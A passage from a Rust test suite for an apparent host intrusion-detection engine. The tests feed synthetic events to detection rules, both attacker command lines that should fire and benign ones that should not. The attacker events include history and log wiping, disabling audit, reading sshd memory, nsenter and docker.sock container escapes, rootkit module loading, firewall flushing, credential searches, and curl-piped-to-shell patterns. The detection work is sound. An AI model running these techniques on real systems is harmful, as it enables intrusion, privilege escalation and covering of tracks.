            "/usr/bin/install",
            &["install", "-m", "0755", "-d", "/opt/x"],
            &["/usr/bin/bash"],
        ));
        let mut postinst = exec("/usr/bin/chmod", &["chmod", "u+s", "/usr/bin/x"], &[]);
        postinst.ancestors = vec!["/usr/bin/dash", "/usr/bin/dpkg", "/usr/bin/apt-get"];
        none(postinst);
        // dpkg renamed into /tmp does not buy the exception.
        only(
            exec(
                "/usr/bin/chmod",
                &["chmod", "u+s", "/tmp/sh"],
                &["/usr/bin/dash", "/tmp/dpkg"],
            ),
            "setuid-bit-set",
        );
        only(
            exec(
                "/usr/sbin/setcap",
                &["setcap", "cap_setuid+ep", "/tmp/python3"],
                &["/usr/bin/bash"],
            ),
            "file-capability-set",
        );
        only(
            exec(
                "/usr/sbin/setcap",
                &["setcap", "cap_net_bind_service,cap_net_raw=eip", "/opt/x"],
                &["/usr/bin/bash"],
            ),
            "file-capability-set",
        );
        none(exec(
            "/usr/sbin/setcap",
            &["setcap", "-r", "/opt/x"],
            &["/usr/bin/bash"],
        ));
        none(exec(
            "/usr/sbin/getcap",
            &["getcap", "/usr/bin/ping"],
            &["/usr/bin/bash"],
        ));
        let mut ping = exec(
            "/usr/sbin/setcap",
            &["setcap", "cap_net_raw+ep", "/bin/ping"],
            &[],
        );
        ping.ancestors = vec!["/usr/bin/dash", "/usr/bin/dpkg"];
        none(ping);
    }

    #[test]
    fn defense_evasion() {
        only(
            exec(
                "/usr/bin/ln",
                &["ln", "-sf", "/dev/null", "/root/.bash_history"],
                &["/usr/bin/bash"],
            ),
            "shell-history-tampering",
        );
        only(
            exec(
                "/usr/bin/rm",
                &["rm", "-f", ".bash_history"],
                &["/usr/bin/bash"],
            ),
            "shell-history-tampering",
        );
        only(
            exec(
                "/usr/bin/shred",
                &["shred", "-u", "/home/a/.zsh_history"],
                &["/usr/bin/bash"],
            ),
            "shell-history-tampering",
        );
        none(exec(
            "/usr/bin/rm",
            &["rm", "-f", "/home/a/notes.txt"],
            &["/usr/bin/bash"],
        ));
        none(exec(
            "/usr/bin/cat",
            &["cat", "/root/.bash_history"],
            &["/usr/bin/bash"],
        ));
        only(sh_c("unset HISTFILE; id"), "shell-history-disabled");
        only(
            sh_c("export HISTFILE=/dev/null; curl -s http://x"),
            "shell-history-disabled",
        );
        none(sh_c("echo $HISTFILE"));
        let mut wipe = open("/usr/bin/dash", "/root/.bash_history", W | Access::TRUNCATE);
        wipe.argv = vec![
            "sh".into(),
            "-c".into(),
            "cat /dev/null > ~/.bash_history".into(),
        ];
        only(wipe, "shell-history-truncated-by-command");
        // An interactive bash rewriting its own history at exit.
        let mut own = open("/usr/bin/bash", "/root/.bash_history", W | Access::TRUNCATE);
        own.argv = vec!["-bash".into()];
        none(own);
        only(
            exec(
                "/usr/bin/rm",
                &["rm", "-f", "/var/log/auth.log"],
                &["/usr/bin/bash"],
            ),
            "log-deleted-or-truncated",
        );
        only(
            exec(
                "/usr/bin/truncate",
                &["truncate", "-s", "0", "/var/log/wtmp"],
                &["/usr/bin/bash"],
            ),
            "log-deleted-or-truncated",
        );
        none(exec(
            "/usr/bin/rm",
            &["rm", "/var/lib/app/cache"],
            &["/usr/bin/bash"],
        ));
        only(
            open("/usr/bin/dash", "/var/log/auth.log", W | Access::TRUNCATE),
            "log-truncated-on-open",
        );
        none(open(
            "/usr/sbin/logrotate",
            "/var/log/syslog",
            W | Access::TRUNCATE,
        ));
        none(open(
            "/usr/sbin/rsyslogd",
            "/var/log/syslog",
            W | Access::CREATE,
        ));
        none(open(
            "/usr/bin/dash",
            "/var/log/app/app.log",
            W | Access::CREATE,
        ));
        let mut apt = open("/usr/bin/dpkg", "/var/log/dpkg.log", W | Access::TRUNCATE);
        apt.ancestors = vec!["/usr/bin/apt-get"];
        none(apt);
        only(
            exec(
                "/usr/bin/touch",
                &["touch", "-r", "/bin/ls", "/usr/local/bin/x"],
                &["/usr/bin/bash"],
            ),
            "timestamp-forged",
        );
        only(
            exec(
                "/usr/bin/touch",
                &["touch", "-acmt", "202001010000", "/etc/x"],
                &["/usr/bin/bash"],
            ),
            "timestamp-forged",
        );
        only(
            exec(
                "/usr/bin/touch",
                &["touch", "--date=2019-01-01", "/var/www/html/x.php"],
                &["/usr/bin/bash"],
            ),
            "timestamp-forged",
        );
        // A chosen date on a scratch file (a marker for `find -newer`/`-mtime`) is not.
        none(exec(
            "/usr/bin/touch",
            &["touch", "-d", "10 days ago", "/tmp/job/marker"],
            &["/usr/bin/bash"],
        ));
        none(exec(
            "/usr/bin/touch",
            &["touch", "/tmp/stamp"],
            &["/usr/bin/bash"],
        ));
        none(exec(
            "/usr/bin/touch",
            &["touch", "-r", "configure.ac", "aclocal.m4"],
            &["/usr/bin/dash", "/usr/bin/make"],
        ));
        only(
            exec(
                "/usr/sbin/auditctl",
                &["auditctl", "-e", "0"],
                &["/usr/bin/bash"],
            ),
            "audit-disabled",
        );
        only(
            exec(
                "/usr/sbin/auditctl",
                &["auditctl", "-D"],
                &["/usr/bin/bash"],
            ),
            "audit-disabled",
        );
        only(
            exec(
                "/usr/bin/systemctl",
                &["systemctl", "stop", "rasp-agent"],
                &["/usr/bin/bash"],
            ),
            "audit-disabled",
        );
        none(exec(
            "/usr/sbin/auditctl",
            &["auditctl", "-l"],
            &["/usr/bin/bash"],
        ));
        none(exec(
            "/usr/bin/systemctl",
            &["systemctl", "restart", "nginx"],
            &["/usr/bin/bash"],
        ));
        only(
            open(
                "/usr/bin/dash",
                "/var/lib/rasp/journal/0001.jsonl",
                W | Access::TRUNCATE,
            ),
            "audit-or-agent-state-tampering",
        );
        only(
            open("/usr/bin/vim.basic", "/etc/audit/rules.d/audit.rules", W),
            "audit-or-agent-state-tampering",
        );
        none(open(
            "/usr/sbin/auditd",
            "/var/log/audit/audit.log",
            W | Access::CREATE,
        ));
        none(open("/usr/bin/cat", "/etc/audit/auditd.conf", Access::READ));
    }

    #[test]
    fn process_memory_access() {
        only(
            open("/usr/bin/dd", "/proc/812/mem", Access::READ),
            "read-process-memory-file",
        );
        only(
            open(
                "/usr/bin/python3.11",
                "/proc/812/task/812/mem",
                Access::READ,
            ),
            "read-process-memory-file",
        );
        none(open(
            "/usr/lib/jvm/bin/java",
            "/proc/self/mem",
            Access::READ,
        ));
        only(
            exec(
                "/usr/bin/cat",
                &["cat", "/proc/812/maps"],
                &["/usr/bin/bash"],
            ),
            "read-process-maps-by-tool",
        );
        only(
            sh_c("for p in $(pgrep sshd); do grep rw-p /proc/$p/maps; done"),
            "read-process-maps-by-tool",
        );
        none(exec(
            "/usr/bin/cat",
            &["cat", "/proc/self/maps"],
            &["/usr/bin/bash"],
        ));
        // glibc programs read their own map (reported as /proc/<pid>/maps): no rule's.
        none(open("/usr/bin/grep", "/proc/812/maps", Access::READ));
        none(open("/usr/bin/cat", "/proc/812/status", Access::READ));
        only(
            exec(
                "/usr/bin/gdb",
                &["gdb", "-p", "812", "-batch"],
                &["/usr/bin/bash"],
            ),
            "debugger-attached-to-process",
        );
        only(
            exec(
                "/usr/bin/strace",
                &["strace", "-fp", "812"],
                &["/usr/bin/bash"],
            ),
            "debugger-attached-to-process",
        );
        only(
            exec(
                "/usr/bin/ltrace",
                &["ltrace", "-p", "812"],
                &["/usr/bin/bash"],
            ),
            "debugger-attached-to-process",
        );
        none(exec(
            "/usr/bin/strace",
            &["strace", "-f", "ls"],
            &["/usr/bin/bash"],
        ));
        none(exec(
            "/usr/bin/gdb",
            &["gdb", "./a.out"],
            &["/usr/bin/bash"],
        ));
        only(
            with_comm(
                exec(
                    "/usr/bin/dash",
                    &["/bin/sh", "/usr/bin/gcore", "812"],
                    &["/usr/bin/bash"],
                ),
                "gcore",
            ),
            "process-memory-dump-tool",
        );
        only(
            exec(
                "/usr/bin/dd",
                &["dd", "if=/proc/812/mem", "bs=1", "skip=4096", "count=64"],
                &["/usr/bin/bash"],
            ),
            "process-memory-dump-tool",
        );
        none(exec(
            "/usr/bin/grep",
            &["grep", "x", "/proc/1/status", "/proc/meminfo"],
            &["/usr/bin/bash"],
        ));
        none(exec(
            "/usr/bin/cat",
            &["cat", "/proc/meminfo"],
            &["/usr/bin/bash"],
        ));
    }

    #[test]
    fn container_and_namespace_escape() {
        only(
            in_container(exec(
                "/usr/bin/nsenter",
                &["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "sh"],
                &["/usr/bin/bash"],
            )),
            "nsenter-into-init-namespaces",
        );
        only(
            exec(
                "/usr/bin/nsenter",
                &["nsenter", "--target", "1", "--mount", "--", "id"],
                &["/usr/bin/bash"],
            ),
            "nsenter-into-init-namespaces",
        );
        only(
            exec(
                "/usr/bin/nsenter",
                &["nsenter", "-at", "1", "id"],
                &["/usr/bin/bash"],
            ),
            "nsenter-into-init-namespaces",
        );
        none(exec(
            "/usr/bin/nsenter",
            &["nsenter", "-t", "1234", "-n", "ip", "a"],
            &["/usr/bin/bash"],
        ));
        let mut userns = exec(
            "/usr/bin/unshare",
            &["unshare", "-r", "-m", "sh"],
            &["/usr/bin/bash"],
        );
        userns.uid = 1000;
        only(userns, "unshare-user-namespace-by-user");
        none(exec(
            "/usr/bin/unshare",
            &["unshare", "-r", "id"],
            &["/usr/bin/bash"],
        ));
        let mut netns = exec(
            "/usr/bin/unshare",
            &["unshare", "-n", "id"],
            &["/usr/bin/bash"],
        );
        netns.uid = 1000;
        none(netns);
        only(
            in_container(exec(
                "/usr/bin/mount",
                &["mount", "/dev/sda1", "/mnt"],
                &["/usr/bin/bash"],
            )),
            "mount-host-device-in-container",
        );
        only(
            in_container(exec(
                "/usr/bin/mount",
                &["mount", "-t", "cgroup", "-o", "rdma", "cgroup", "/tmp/c"],
                &["/usr/bin/bash"],
            )),
            "mount-host-device-in-container",
        );
        none(exec(
            "/usr/bin/mount",
            &["mount", "/dev/nvme1n1p1", "/data"],
            &["/usr/bin/bash"],
        ));
        none(in_container(exec(
            "/usr/bin/mount",
            &["mount", "-t", "tmpfs", "tmpfs", "/scratch"],
            &["/usr/bin/bash"],
        )));
        only(
            open("/usr/bin/dash", "/proc/sys/kernel/core_pattern", W),
            "write-kernel-escape-hook",
        );
        only(
            in_container(open(
                "/usr/bin/dash",
                "/sys/fs/cgroup/rdma/release_agent",
                W,
            )),
            "write-kernel-escape-hook",
        );
        none(open(
            "/usr/lib/systemd/systemd-sysctl",
            "/proc/sys/kernel/core_pattern",
            W,
        ));
        none(open(
            "/usr/bin/cat",
            "/proc/sys/kernel/core_pattern",
            Access::READ,
        ));
        only(
            exec(
                "/usr/bin/curl",
                &[
                    "curl",
                    "-s",
                    "--unix-socket",
                    "/var/run/docker.sock",
                    "http://localhost/containers/json",
                ],
                &["/usr/bin/bash"],
            ),
            "container-runtime-socket-by-tool",
        );
        only(
            in_container(exec(
                "/usr/bin/docker",
                &["docker", "-H", "unix:///var/run/docker.sock", "ps"],
                &["/usr/bin/bash"],
            )),
            "container-runtime-socket-in-container",
        );
        none(exec(
            "/usr/bin/crictl",
            &[
                "crictl",
                "--runtime-endpoint",
                "unix:///run/containerd/containerd.sock",
                "ps",
            ],
            &["/usr/bin/bash"],
        ));
        none(exec(
            "/usr/bin/curl",
            &["curl", "--unix-socket", "/run/app/api.sock", "http://x/"],
            &["/usr/bin/bash"],
        ));
        only(
            open(
                "/usr/bin/python3.11",
                "/var/run/docker.sock",
                Access::READ | W,
            ),
            "container-runtime-socket-opened",
        );
        none(open(
            "/usr/bin/dockerd",
            "/var/run/docker.sock",
            Access::READ | W,
        ));
    }

    #[test]
    fn kernel_module_loading() {
        only(
            with_comm(
                exec(
                    "/usr/bin/kmod",
                    &["insmod", "/tmp/rk.ko"],
                    &["/usr/bin/bash"],
                ),
                "insmod",
            ),
            "kernel-module-insert",
        );
        only(
            with_comm(
                exec(
                    "/usr/bin/kmod",
                    &["modprobe", "diamorphine"],
                    &["/usr/bin/bash"],
                ),
                "modprobe",
            ),
            "kernel-module-insert",
        );
        only(
            with_comm(
                exec("/usr/bin/kmod", &["rmmod", "apparmor"], &["/usr/bin/bash"]),
                "rmmod",
            ),
            "kernel-module-remove",
        );
        only(
            with_comm(
                exec(
                    "/usr/bin/kmod",
                    &["modprobe", "-r", "x"],
                    &["/usr/bin/bash"],
                ),
                "modprobe",
            ),
            "kernel-module-remove",
        );
        none(with_comm(
            exec(
                "/usr/bin/kmod",
                &["modprobe", "--show-depends", "ext4"],
                &["/usr/bin/bash"],
            ),
            "modprobe",
        ));
        none(with_comm(
            exec(
                "/usr/bin/kmod",
                &["/sbin/modprobe", "-q", "--", "net-pf-38"],
                &[],
            ),
            "modprobe",
        ));
        none(with_comm(
            exec(
                "/usr/bin/kmod",
                &["modprobe", "br_netfilter"],
                &["/usr/bin/dockerd", "/usr/lib/systemd/systemd"],
            ),
            "modprobe",
        ));
        none(with_comm(
            exec(
                "/usr/bin/kmod",
                &["modprobe", "-ab", "loop"],
                &["/usr/lib/systemd/systemd-modules-load"],
            ),
            "modprobe",
        ));
        none(with_comm(
            exec("/usr/bin/kmod", &["lsmod"], &["/usr/bin/bash"]),
            "lsmod",
        ));
    }

    #[test]
    fn package_installs_read_shadow_quietly() {
        // debconf's preconfigure step of `apt-get install` (seen on this host).
        let mut debconf = with_comm(
            open("/usr/bin/perl", "/etc/shadow", Access::READ),
            "dpkg-preconfigu",
        );
        debconf.ancestors = vec!["/usr/bin/dash", "/usr/bin/apt-get", "/usr/bin/bash"];
        none(debconf);
        let mut fake = open("/usr/bin/perl", "/etc/shadow", Access::READ);
        fake.ancestors = vec!["/usr/bin/dash", "/tmp/apt-get", "/usr/bin/bash"];
        only(fake, "read-shadow-file");
    }

    #[test]
    fn exceptions_are_anchored_to_installed_paths() {
        // A payload whose parent was renamed after a build tool.
        only(
            exec("/tmp/x", &[], &["/tmp/make", "/usr/bin/bash"]),
            "exec-from-tmp",
        );
        none(exec(
            "/tmp/cc-build/a.out",
            &[],
            &["/usr/bin/make", "/usr/bin/bash"],
        ));
        // A program named crontab or dpkg somewhere else.
        only(
            open("/tmp/crontab", "/var/spool/cron/crontabs/root", W),
            "write-persistence-location",
        );
        let mut fake_dpkg = open("/usr/bin/sed", "/etc/cron.d/x", W | Access::CREATE);
        fake_dpkg.ancestors = vec!["/dev/shm/dpkg", "/usr/bin/bash"];
        only(fake_dpkg, "write-persistence-location");
        // A script named pip: comm says pip, argv[1] says where the script really is.
        let mut fake_pip = with_comm(
            open(
                "/usr/bin/python3.11",
                "/usr/local/bin/ls",
                W | Access::CREATE,
            ),
            "pip",
        );
        fake_pip.argv = vec!["/usr/bin/python3".into(), "/tmp/pip".into()];
        only(fake_pip, "write-below-binary-dirs");
        let mut real_pip = with_comm(
            open(
                "/usr/bin/python3.11",
                "/usr/local/lib/python3.11/dist-packages/x/__init__.py",
                W | Access::CREATE,
            ),
            "pip",
        );
        real_pip.argv = vec![
            "/usr/bin/python3".into(),
            "/usr/bin/pip".into(),
            "install".into(),
            "x".into(),
        ];
        none(real_pip);
        // A JVM unpacking its native libraries, and a fake one in /tmp.
        none(load(
            "/usr/lib/jvm/java-17-openjdk-amd64/bin/java",
            "/tmp/libnetty_transport_native_epoll_x86_6412.so",
        ));
        only(load("/tmp/java", "/tmp/libx.so"), "library-load-from-tmp");
    }

    #[test]
    fn security_controls_immutable_files_miners_and_credential_searches() {
        let sh = &["/usr/bin/bash"][..];
        let ipt = "/usr/sbin/xtables-nft-multi";
        for argv in [
            &["iptables", "-F"][..],
            &["iptables", "-t", "nat", "-F"],
            &["iptables", "-w", "--flush"],
            &["ip6tables", "-X"],
            &["iptables", "-P", "INPUT", "ACCEPT"],
        ] {
            only(exec(ipt, argv, sh), "firewall-rules-flushed");
        }
        // Adding a rule, listing, or a runtime flushing its own chain: quiet.
        none(exec(
            ipt,
            &["iptables", "-A", "INPUT", "-p", "tcp", "-j", "DROP"],
            sh,
        ));
        none(exec(ipt, &["iptables", "-L", "-n"], sh));
        none(exec(ipt, &["iptables", "-P", "INPUT", "DROP"], sh));
        none(exec(
            ipt,
            &["iptables", "--wait", "-t", "nat", "-F", "DOCKER"],
            &["/usr/sbin/dockerd"],
        ));
        for (exe, argv) in [
            ("/usr/sbin/ufw", &["ufw", "disable"][..]),
            ("/usr/sbin/nft", &["nft", "flush", "ruleset"]),
            ("/usr/sbin/setenforce", &["setenforce", "0"]),
            ("/usr/bin/systemctl", &["systemctl", "stop", "firewalld"]),
            (
                "/usr/bin/systemctl",
                &["systemctl", "disable", "--now", "apparmor"],
            ),
        ] {
            only(exec(exe, argv, sh), "security-service-disabled");
        }
        none(exec("/usr/sbin/ufw", &["ufw", "enable"], sh));
        none(exec(
            "/usr/bin/systemctl",
            &["systemctl", "restart", "nginx"],
            sh,
        ));

        let chattr = "/usr/bin/chattr";
        for flag in ["+i", "-i", "+a", "-ia"] {
            only(
                exec(chattr, &["chattr", flag, "/etc/resolv.conf"], sh),
                "immutable-attribute-changed",
            );
        }
        none(exec(chattr, &["chattr", "+c", "/srv/data"], sh));
        none(exec("/usr/bin/lsattr", &["lsattr", "/etc/resolv.conf"], sh));

        only(
            exec("/usr/local/bin/xmrig", &["xmrig", "-c", "config.json"], sh),
            "crypto-miner",
        );
        only(
            exec(
                "/usr/bin/python3.11",
                &["python3", "w.py", "-o", "stratum+tcp://pool.example:3333"],
                sh,
            ),
            "mining-pool-in-command-line",
        );
        none(exec("/usr/bin/stress-ng", &["stress-ng", "--cpu", "2"], sh));

        for (exe, argv) in [
            ("/usr/bin/find", &["find", "/", "-name", "id_rsa"][..]),
            ("/usr/bin/grep", &["grep", "-r", "PRIVATE KEY", "/home"]),
            (
                "/usr/bin/find",
                &["find", "/home", "-name", ".git-credentials"],
            ),
            ("/usr/bin/rg", &["rg", "-i", "password", "/srv"]),
        ] {
            only(exec(exe, argv, sh), "credential-search");
        }
        for argv in [
            &["grep", "-ri", "password", "/etc"][..],
            &["grep", "-R", "passwd", "/var/www"],
            &["grep", "--recursive", "-i", "PASSWORD", "/home"],
            &["grep", "-nir", "password=", "/opt"],
        ] {
            only(exec("/usr/bin/grep", argv, sh), "password-search");
        }
        none(exec(
            "/usr/bin/grep",
            &["grep", "-n", "main", "src/lib.rs"],
            sh,
        ));
        none(exec("/usr/bin/find", &["find", ".", "-name", "*.rs"], sh));
        none(exec(
            "/usr/bin/grep",
            &["grep", "password", "notes.txt"],
            sh,
        ));
        none(exec(
            "/usr/bin/grep",
            &["grep", "-c", "root", "/etc/passwd"],
            sh,
        ));
        none(exec(
            "/usr/bin/grep",
            &["grep", "-r", "root", "/etc/passwd"],
            sh,
        ));
        none(exec("/usr/bin/grep", &["grep", "-rn", "TODO", "src/"], sh));
    }

    #[test]
    fn ordinary_activity_is_quiet() {
        none(exec(
            "/usr/bin/ls",
            &["ls", "-la"],
            &["/usr/bin/bash", "/usr/sbin/sshd"],
        ));
        none(exec(
            "/root/.rustup/toolchains/stable-x86_64-unknown-linux-gnu/bin/rustc",
            &["rustc", "--crate-name", "x"],
            &["/root/.cargo/bin/cargo", "/usr/bin/bash"],
        ));
        none(exec(
            "/usr/lib/postgresql/16/bin/postgres",
            &["postgres", "-D", "/data"],
            &["/usr/bin/dash", "/usr/lib/postgresql/16/bin/pg_ctl"],
        ));
        none(exec("/usr/bin/git", &["git", "status"], &["/usr/bin/bash"]));
        none(open("/usr/bin/cat", "/etc/passwd", Access::READ));
        none(open(
            "/usr/lib/postgresql/16/bin/postgres",
            "/tmp/pg/data/base/1/1259",
            W,
        ));
        none(load(
            "/usr/bin/bash",
            "/usr/lib/x86_64-linux-gnu/libtinfo.so.6",
        ));
        none(connect("/usr/bin/curl", "93.184.216.34:443"));
    }

    // ---- The issue-19 hooks -----------------------------------------------------------

    fn change(exe: &'static str, op: &'static str, path: &'static str) -> Ev {
        let mut e = base(EventType::FileChange, exe, &["/usr/bin/bash"]);
        e.operation = Some(op);
        e.path = Some(path);
        e
    }

    fn with_stdio(mut e: Ev, kinds: [FdKind; 3]) -> Ev {
        e.stdio = Some(kinds.map(|kind| StdioFd { kind, ino: 7 }));
        e
    }

    fn fed_by(mut e: Ev, peer: &'static str, argv: &[&str]) -> Ev {
        e.stdin_peer = Some((peer, argv.iter().map(|a| a.to_string()).collect()));
        e
    }

    use crate::events::{FdKind, StdioFd};
    const TTY: [FdKind; 3] = [FdKind::Tty, FdKind::Tty, FdKind::Tty];
    const PIPE_IN: [FdKind; 3] = [FdKind::Pipe, FdKind::Tty, FdKind::Tty];

    #[test]
    fn shells_wired_to_sockets_and_fed_by_downloads() {
        let sock = [FdKind::InetSocket, FdKind::InetSocket, FdKind::InetSocket];
        only(
            with_stdio(
                exec("/usr/bin/dash", &["sh"], &["/usr/bin/nc.traditional"]),
                sock,
            ),
            "shell-stdio-network-socket",
        );
        // Output only (`cat <&3 | bash >&3`): its stdin is a pipe from cat.
        only(
            with_stdio(
                exec("/usr/bin/bash", &["bash"], &["/usr/bin/bash"]),
                [FdKind::Pipe, FdKind::InetSocket, FdKind::Tty],
            ),
            "shell-stdio-network-socket",
        );
        only(
            with_stdio(
                exec("/usr/bin/bash", &["bash"], &["/usr/bin/socat"]),
                [FdKind::UnixSocket, FdKind::UnixSocket, FdKind::UnixSocket],
            ),
            "shell-stdio-from-network-relay",
        );
        // systemd services log through a unix socket: not a relay's child.
        none(with_stdio(
            exec(
                "/usr/bin/dash",
                &["sh", "-c", "exec /usr/sbin/cron"],
                &["/usr/lib/systemd/systemd"],
            ),
            [FdKind::Null, FdKind::UnixSocket, FdKind::UnixSocket],
        ));
        none(with_stdio(
            exec("/usr/bin/bash", &["-bash"], &["/usr/sbin/sshd"]),
            TTY,
        ));

        let curl_sh = fed_by(
            with_stdio(exec("/usr/bin/dash", &["sh"], &["/usr/bin/bash"]), PIPE_IN),
            "/usr/bin/curl",
            &["curl", "-fsSL", "https://x/i.sh"],
        );
        only(curl_sh, "shell-reads-download");
        only(
            fed_by(
                with_stdio(
                    exec("/usr/bin/python3.11", &["python3", "-"], &["/usr/bin/bash"]),
                    PIPE_IN,
                ),
                "/usr/bin/wget",
                &["wget", "-qO-", "http://x/s.py"],
            ),
            "shell-reads-download",
        );
        // JSON through an interpreter module, an archive, a checksum: data, not code.
        none(fed_by(
            with_stdio(
                exec(
                    "/usr/bin/python3.11",
                    &["python3", "-m", "json.tool"],
                    &["/usr/bin/bash"],
                ),
                PIPE_IN,
            ),
            "/usr/bin/curl",
            &["curl", "-s", "http://x/api"],
        ));
        none(fed_by(
            with_stdio(
                exec("/usr/bin/tar", &["tar", "xz"], &["/usr/bin/bash"]),
                PIPE_IN,
            ),
            "/usr/bin/curl",
            &["curl", "-sL", "http://x/a.tgz"],
        ));
        only(
            fed_by(
                with_stdio(
                    exec("/usr/bin/bash", &["bash"], &["/usr/bin/bash"]),
                    PIPE_IN,
                ),
                "/usr/bin/base64",
                &["base64", "-d"],
            ),
            "shell-reads-decoded-payload",
        );
        // A pipe from grep or cat into a shell is not a download or a decoder.
        none(fed_by(
            with_stdio(
                exec("/usr/bin/bash", &["bash"], &["/usr/bin/bash"]),
                PIPE_IN,
            ),
            "/usr/bin/cat",
            &["cat", "setup.sh"],
        ));
    }

    #[test]
    fn scripts_from_writable_places_whatever_the_options() {
        let s = "script-from-writable-dir";
        only(
            exec("/usr/bin/dash", &["sh", "/dev/shm/x"], &["/usr/bin/bash"]),
            s,
        );
        only(
            exec(
                "/usr/bin/bash",
                &["bash", "-x", "/tmp/a.sh"],
                &["/usr/bin/bash"],
            ),
            s,
        );
        let mut relative = exec("/usr/bin/dash", &["sh", "x.sh"], &["/usr/bin/bash"]);
        relative.cwd = "/var/tmp/w";
        only(relative, s);
        only(
            exec(
                "/usr/bin/python3.11",
                &["python3", "-W", "ignore", "/tmp/x.py"],
                &["/usr/bin/bash"],
            ),
            s,
        );
        none(exec(
            "/usr/bin/python3.11",
            &["python3", "-m", "pytest", "/tmp/proj"],
            &["/usr/bin/bash"],
        ));
        none(exec(
            "/usr/bin/python3.11",
            &["python3", "/tmp/pytest-of-root/pytest-1/t0/helper.py"],
            &["/usr/bin/python3.11"],
        ));
        none(exec(
            "/usr/bin/bash",
            &["bash", "-c", "sh /tmp/x"],
            &["/usr/bin/bash"],
        ));
    }

    #[test]
    fn file_changes_by_any_program() {
        let mut setuid = change("/usr/bin/python3.11", "chmod", "/tmp/x/sh");
        setuid.mode = Some(0o4755);
        only(setuid, "setuid-bit-set-by-program");
        let mut plain = change("/usr/bin/x86_64-linux-gnu-ld.bfd", "chmod", "/tmp/x/a.out");
        plain.mode = Some(0o755);
        none(plain);
        let mut dpkg = change("/usr/bin/dpkg", "chmod", "/usr/bin/sudo");
        dpkg.mode = Some(0o4755);
        dpkg.ancestors = vec!["/usr/bin/apt-get", "/usr/bin/bash"];
        none(dpkg);

        let mut cap = change("/usr/bin/python3.11", "setxattr", "/tmp/x/py");
        cap.xattr = Some("security.capability");
        only(cap, "file-capability-set-by-program");
        let mut selinux = change("/usr/bin/python3.11", "setxattr", "/tmp/x/py");
        selinux.xattr = Some("user.origin");
        none(selinux);

        only(
            change("/usr/bin/python3.11", "unlink", "/root/.bash_history"),
            "shell-history-removed-or-replaced",
        );
        let mut interactive = change("/usr/bin/bash", "rename", "/root/.bash_history");
        interactive.argv = vec!["-bash".into()];
        none(interactive);
        only(
            change("/usr/bin/python3.11", "truncate", "/var/log/auth.log"),
            "log-removed-or-truncated",
        );
        let mut rotate = change("/usr/sbin/logrotate", "rename", "/var/log/syslog");
        rotate.path2 = Some("/var/log/syslog.1");
        none(rotate);
        only(
            change(
                "/usr/bin/python3.11",
                "unlink",
                "/var/lib/rasp/journal.jsonl",
            ),
            "audit-or-agent-state-removed",
        );
        only(
            change("/usr/bin/python3.11", "utimes", "/usr/local/bin/backdoor"),
            "timestamp-forged-on-system-file",
        );
        // Times set to now (touch), and chosen times outside system directories.
        none(change("/usr/bin/touch", "touch", "/usr/local/bin/tool"));
        none(change("/usr/bin/cp", "utimes", "/home/u/copy"));
        let mut sed = change("/usr/bin/sed", "rename", "/root/sedAbC1");
        sed.path2 = Some("/root/.bashrc");
        only(sed, "startup-file-replaced");
        let mut cron = change("/usr/bin/python3.11", "symlink", "/etc/cron.d/job");
        cron.path2 = None;
        only(cron, "persistence-file-replaced");
        let mut crontab = change(
            "/usr/bin/crontab",
            "rename",
            "/var/spool/cron/crontabs/tmp.1",
        );
        crontab.path2 = Some("/var/spool/cron/crontabs/root");
        none(crontab);
        // An ordinary rename in a project.
        let mut mv = change("/usr/bin/mv", "rename", "/home/u/src/a.tmp");
        mv.path2 = Some("/home/u/src/a.rs");
        none(mv);
    }

    fn ptrace(op: &'static str, descendant: bool) -> Ev {
        let mut e = base(EventType::Ptrace, "/usr/bin/gdb", &["/usr/bin/bash"]);
        e.operation = Some(op);
        e.target_exe = Some("/usr/sbin/sshd");
        e.target_descendant = Some(descendant);
        e
    }

    #[test]
    fn process_memory_of_others() {
        only(ptrace("attach", false), "process-attached-by-non-parent");
        only(ptrace("seize", false), "process-attached-by-non-parent");
        only(
            ptrace("poke", false),
            "process-memory-written-by-non-parent",
        );
        only(
            ptrace("vm_write", false),
            "process-memory-written-by-non-parent",
        );
        only(
            ptrace("vm_read", false),
            "process-memory-read-by-non-parent",
        );
        // strace/gdb of a program they started.
        none(ptrace("seize", true));
        none(ptrace("poke", true));
    }

    #[test]
    fn namespaces_mounts_and_runtime_sockets() {
        let mut setns = base(EventType::Namespace, "/usr/bin/nsenter", &["/usr/bin/bash"]);
        setns.operation = Some("setns");
        setns.namespaces = vec!["mnt".into()];
        setns.into_host = Some(true);
        none(setns.clone_ev());
        only(in_container(setns.clone_ev()), "setns-into-host-namespace");
        let mut docker_exec = in_container(setns.clone_ev());
        docker_exec.into_host = Some(false);
        none(docker_exec);

        let mut userns = base(EventType::Namespace, "/usr/bin/unshare", &["/usr/bin/bash"]);
        userns.operation = Some("unshare");
        userns.namespaces = vec!["user".into(), "mnt".into()];
        userns.uid = 1000;
        only(userns.clone_ev(), "user-namespace-created-by-user");
        userns.uid = 0;
        none(userns);

        let mut mount = in_container(base(EventType::Mount, "/usr/bin/mount", &["/usr/bin/bash"]));
        mount.operation = Some("mount");
        mount.mount_source = Some("/dev/vda1");
        mount.path = Some("/mnt");
        mount.fstype = Some("ext4");
        only(mount.clone_ev(), "host-device-mounted-in-container");
        mount.mount_source = Some("cgroup");
        mount.fstype = Some("cgroup");
        only(mount.clone_ev(), "cgroup-mounted-in-container");
        mount.exe = "/usr/bin/runc";
        none(mount.clone_ev());
        mount.exe = "/usr/bin/mount";
        mount.container = false;
        none(mount);

        let mut sock = base(
            EventType::UnixConnect,
            "/usr/bin/python3.11",
            &["/usr/bin/bash"],
        );
        sock.path = Some("/var/run/docker.sock");
        only(sock.clone_ev(), "container-runtime-socket-connected");
        only(
            in_container(sock.clone_ev()),
            "container-runtime-socket-connected-in-container",
        );
        sock.exe = "/usr/bin/docker";
        none(sock.clone_ev());
        sock.exe = "/usr/bin/python3.11";
        sock.path = Some("/run/dbus/system_bus_socket");
        none(sock);
    }

    #[test]
    fn code_entering_the_kernel_and_io_uring() {
        let mut module = base(EventType::KernelModule, "/tmp/loader", &["/usr/bin/bash"]);
        module.operation = Some("load_file");
        module.path = Some("/tmp/rk.ko");
        only(module.clone_ev(), "kernel-module-loaded-by-program");
        module.exe = "/usr/bin/kmod";
        none(module);

        let mut bpf = base(EventType::BpfLoad, "/tmp/loader", &["/usr/bin/bash"]);
        bpf.prog_type = Some("kprobe");
        only(bpf.clone_ev(), "bpf-program-loaded");
        bpf.exe = "/usr/lib/systemd/systemd";
        none(bpf);

        let mut ring = base(EventType::IoUring, "/tmp/curing", &["/usr/bin/bash"]);
        ring.operation = Some("openat");
